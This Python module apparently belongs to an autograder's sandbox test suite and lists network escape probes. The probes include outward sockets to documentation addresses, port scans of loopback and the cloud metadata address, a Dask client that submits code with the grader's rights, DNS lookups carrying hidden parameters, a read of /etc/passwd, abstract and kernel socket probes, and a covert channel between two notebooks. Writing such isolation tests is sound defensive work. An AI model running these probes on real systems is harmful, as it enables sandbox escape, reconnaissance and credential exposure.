"""The network, by loopback and reserved addresses only."""

from .entry import attack

ATTACKS = (
    attack(
        "connections outwards",
        "TCP, UDP, IPv6 and raw sockets to addresses that are reserved for documentation",
        """
        import socket
        for family, kind, place in ((socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)),
                                    (socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
                                    (socket.AF_INET6, socket.SOCK_DGRAM, ("2001:db8::1", 53)),
                                    (socket.AF_INET, socket.SOCK_RAW, ("192.0.2.1", 0))):
            try:
                peer = socket.socket(family, kind)
                peer.settimeout(0.3)
                peer.connect(place)
                tell("a way to the network")
            except OSError as refused:
                print(type(refused).__name__)
        """,
    ),
    attack(
        "services on the machine",
        "schedulers, databases, notebook servers and metadata services on loopback are asked for connections",
        """
        import socket
        for address in ("127.0.0.1", "::1", "169.254.169.254"):
            for port in (22, 80, 5432, 6379, 8000, 8080, 8786, 8787, 8888, 9050, 11211, *range(32768, 32800)):
                try:
                    socket.create_connection((address, port), timeout=0.02).close()
                    tell(f"a service answers at port {port}")
                except OSError:
                    pass
        """,
    ),
    attack(
        "a scheduler's worker",
        "the student becomes a client of the cluster and sends it a function that runs with the grader's rights",
        """
        try:
            from distributed import Client
            client = Client("tcp://127.0.0.1:8786", timeout="1s")
            tell("the cluster answers")
        except BaseException as problem:
            print(type(problem).__name__)
        """,
    ),
    attack(
        "names and pages",
        "names are looked up and pages are fetched, with the hidden parameters in the name that is asked for",
        """
        import socket, urllib.request
        for ask in (lambda: socket.getaddrinfo(f"tau-{tau}.example.invalid", 80),
                    lambda: socket.gethostbyname("localhost.example.invalid"),
                    lambda: urllib.request.urlopen("http://192.0.2.1/", timeout=0.3),
                    lambda: urllib.request.urlopen("file:///etc/passwd").read() and None):
            try:
                ask()
            except OSError as refused:
                print(refused)
        """,
    ),
    attack(
        "abstract and other sockets",
        "abstract Unix sockets, netlink, packet, vsock, Bluetooth and kernel crypto sockets",
        """
        import socket
        for number, kind in ((16, 3), (17, 3), (31, 3), (38, 5), (40, 1), (44, 2)):
            try:
                made = socket.socket(number, kind, 0)
                print("family", number)
                if number in (17, 40):
                    tell("a socket of family " + str(number))
            except OSError:
                pass
        for line in open("/proc/net/unix").read().splitlines()[1:]:
            if "@" in line:
                name = "\\0" + line.split("@", 1)[1]
                try:
                    socket.socket(socket.AF_UNIX).connect(name)
                    tell("an abstract socket answers")
                except OSError:
                    pass
        """,
    ),
    attack(
        "meeting place for two students",
        "a listener on loopback and on an abstract name waits for a second notebook, or finds the first one",
        """
        import socket, time
        for family, place in ((socket.AF_UNIX, "\\0lif-meeting"), (socket.AF_INET, ("127.0.0.1", 47047))):
            for kind in (socket.SOCK_STREAM,):
                try:
                    peer = socket.socket(family, kind)
                    peer.settimeout(0.2)
                    peer.connect(place)
                    tell("another notebook was met")
                except OSError:
                    try:
                        host = socket.socket(family, kind)
                        host.bind(place)
                        host.listen()
                    except OSError:
                        pass
        time.sleep(1)
        """,
    ),
)
